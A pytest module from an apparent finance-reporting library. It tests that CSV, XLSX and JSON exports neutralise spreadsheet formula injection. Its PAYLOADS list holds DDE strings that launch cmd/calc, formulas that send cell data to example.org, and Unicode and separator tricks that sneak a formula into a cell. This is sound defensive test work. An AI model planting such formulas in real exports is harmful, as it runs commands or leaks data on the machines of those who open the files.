"""Nothing that somebody typed runs in a spreadsheet, in any column of any report, and numbers stay numbers (S43)."""

import csv
import io
import json
import re
import unicodedata
import zipfile
from dataclasses import replace
from decimal import Decimal
from typing import Any, Final

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seedfund.kernel.currencies import exponent
from seedfund.kernel.money import PLAIN, Money, format_minor
from seedfund.reports.render.flat import FlatKind, flat
from seedfund.reports.render.guard import guarded, is_risky, unguarded
from seedfund.reports.value import BookHead, Cell, Column, Kind, Phrase, Report, Row, Section, TotalRow
from tests.reports.readers import csv_bytes, json_bytes, xlsx_bytes
from tests.reports.samples import samples

REPORTS: Final = samples()
OWASP: Final = ("=", "+", "-", "@", "\t", "\r")
"""The six signs of OWASP's page on CSV injection."""
PAYLOADS: Final = (
    *(f"{sign}1+1" for sign in OWASP),
    "\n=1+1",
    # Programs started through DDE.
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"a")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    # Data sent away.
    '=HYPERLINK("https://example.org/?x="&A1,"ver")',
    '=IMPORTXML(CONCAT("https://example.org/?v=",A2:E2),"//a")',
    '=WEBSERVICE("https://example.org/"&A1)',
    # Signs that a spreadsheet reads as those.
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1+1", "﹢1", "﹣1", "﹫A1", "−1+1"),
    # What stands before the sign, or makes a cell of its own.
    *("   =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", '"=1+1"', "'=1+1", "“=1+1"),
    *('a","=1+1', "a;=1+1", "a\t=1+1", "a\r\n=1+1", "a\x0b=1+1", "a\u2028=1+1"),
)
TRIGGERS: Final = frozenset("=+-@\N{MINUS SIGN}")


def infected(report: Report, payload: str) -> Report:
    """The report with the payload in every place where a text somebody typed can stand."""

    def row(cells: Row) -> Row:
        return tuple(payload if isinstance(cell, str) else cell for cell in cells)

    def sentence(text: Phrase | None) -> Phrase | None:
        return text if text is None else Phrase(f"{text.text} {{typed}}", (*text.facts, ("typed", payload)))

    def totals(found: tuple[TotalRow, ...]) -> tuple[TotalRow, ...]:
        return tuple(TotalRow(sentence(one.label) or one.label, row(one.cells)) for one in found)

    return replace(
        report,
        scope=payload,
        standing=replace(report.standing, heads=(BookHead(payload, 1, "0" * 64),), funds=(payload,)),
        sections=tuple(
            Section(
                [row(cells) for cells in part.rows],
                Phrase("{typed}", (("typed", payload),)),
                totals(part.totals),
            )
            for part in report.sections
        ),
        totals=totals(report.totals),
    )


def runs(text: str) -> bool:
    """Whether a spreadsheet could run a cell, or a piece it splits off, written with no code of ours."""
    if text[:1] in ("\t", "\r"):
        return True
    for piece in re.split(r"[;\t\r\n\x0b\x0c\x85\u2028\u2029]", text):
        bare = piece.lstrip(' \xa0\u3000\ufeff\u200b"“”')
        if any(sign in TRIGGERS for sign in unicodedata.normalize("NFKC", bare[:1])):
            return True
    return False


def expected_numbers(report: Report) -> list[str]:
    """Every amount and whole number of rows and totals, as plain decimals."""
    found: list[str] = []
    for line in report.lines:
        for cell, column in zip(line, report.columns, strict=True):
            if isinstance(cell, Money):
                found.append(format_minor(cell.minor, cell.currency, PLAIN))
            elif isinstance(cell, int) and column.kind is Kind.INTEGER:
                found.append(str(cell))
    return sorted(found)


def test_the_check_of_these_tests_sees_every_payload() -> None:
    # One has the guard's own sign in front, one tries to leave its quotation marks: as they stand they are harmless.
    assert [payload for payload in PAYLOADS if not runs(payload)] == ["'=1+1", 'a","=1+1']
    assert not runs("3-4 gallinas, a = b")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", sorted(REPORTS))
def test_no_cell_of_a_csv_file_runs_and_every_one_comes_back(name: str, payload: str) -> None:
    report = infected(REPORTS[name], payload)
    text = csv_bytes(report).decode()
    (heads, *lines) = csv.reader(io.StringIO(text, newline=""))
    texts = [column.kind is FlatKind.TEXT for column in flat(report).columns]

    cells = [cell for line in lines for cell, is_text in zip(line, texts, strict=True) if is_text]
    assert [cell for cell in cells if cell and runs(cell)] == []
    assert sum(unguarded(cell) == payload for cell in cells) >= _typed(report, payload)
    assert not any(runs(head) for head in heads)


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_numbers_of_a_csv_file_stay_bare_numbers_whatever_stands_beside_them(name: str) -> None:
    report = infected(REPORTS[name], '=1+1"')
    raw = csv_bytes(report).decode()
    (heads, *lines) = csv.reader(io.StringIO(raw, newline=""))
    plain = {
        column.key for column in flat(report).columns if column.kind in (FlatKind.AMOUNT, FlatKind.INTEGER)
    }
    counted = {column.key for column in report.columns if column.kind in (Kind.MONEY, Kind.INTEGER)}

    numbers = [
        cell
        for line in lines
        for head, cell in zip(heads, line, strict=True)
        if head in plain & counted and cell and not cell.startswith("#")
    ]
    assert sorted(numbers) == expected_numbers(report)
    assert all(f",{number}," in raw or f",{number}\r" in raw for number in numbers)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", sorted(REPORTS))
def test_no_cell_of_a_spreadsheet_is_a_formula_a_link_or_leads_outside(name: str, payload: str) -> None:
    data = xlsx_bytes(infected(REPORTS[name], payload))
    parts = zipfile.ZipFile(io.BytesIO(data))
    xml = {part: parts.read(part).decode() for part in parts.namelist() if part.endswith((".xml", ".rels"))}

    assert not any(re.search(r"<f[ >]|<hyperlink|ddeLink|oleLink|TargetMode", text) for text in xml.values())
    assert not any("externalLink" in part or "vba" in part for part in parts.namelist())
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d", "inlineStr"}
        texts = [cell for cell in cells if isinstance(cell.value, str)]
        assert [cell.value for cell in texts if is_risky(str(cell.value)) and not cell.quotePrefix] == []


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_numbers_of_a_spreadsheet_are_numbers_and_come_back_to_the_last_unit(name: str) -> None:
    report = infected(REPORTS[name], "=1+1")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(report))).worksheets[0]
    kinds = [column.kind for column in flat(report).columns]
    keys = [column.key for column in flat(report).columns]
    money = {column.key for column in report.columns if column.kind is Kind.MONEY}
    currency = keys.index("currency") if "currency" in keys else None

    found = [
        format(Decimal(str(cell.value)), f".{exponent(str(row[currency].value))}f")
        for row in list(sheet.iter_rows())[1:]
        for cell, kind, key in zip(row, kinds, keys, strict=True)
        if kind is FlatKind.AMOUNT and key in money and cell.data_type == "n" and cell.value is not None
        if currency is not None
    ]
    assert sorted(found) == sorted(
        format_minor(cell.minor, cell.currency, PLAIN)
        for line in report.lines
        for cell in line
        if isinstance(cell, Money)
    )


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", sorted(REPORTS))
def test_json_gives_every_text_back_unchanged_and_amounts_as_exact_decimals(name: str, payload: str) -> None:
    report = infected(REPORTS[name], payload)
    read = json.loads(json_bytes(report))
    told: list[Any] = [row for part in read["sections"] for row in part["rows"]]

    assert read["scope"] == payload
    assert sum(value == payload for row in told for value in row.values()) == sum(
        cell == payload for row in report.rows for cell in row
    )
    assert sorted(
        value["amount"]
        for row in told
        for value in row.values()
        if isinstance(value, dict) and "amount" in value
    ) == sorted(
        format_minor(cell.minor, cell.currency, PLAIN)
        for row in report.rows
        for cell in row
        if isinstance(cell, Money)
    )


def _typed(report: Report, payload: str) -> int:
    """How many cells of rows hold the payload."""
    return sum(cell == payload for row in report.rows for cell in row)


TYPED: Final = Column("typed", "Description", Kind.TEXT)


@settings(max_examples=150)
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=30))
def test_whatever_is_typed_neither_runs_nor_changes_in_a_csv_file(text: str) -> None:
    cells: tuple[Cell, ...] = (text,)
    sample = REPORTS["exceptions"]
    report = replace(sample, columns=(TYPED,), sections=(Section([cells]),), totals=(), scope="")
    (_, line) = csv.reader(io.StringIO(csv_bytes(report).decode(), newline=""))

    assert not runs(line[3])
    assert unguarded(line[3]) == text
    assert guarded(text) == line[3]
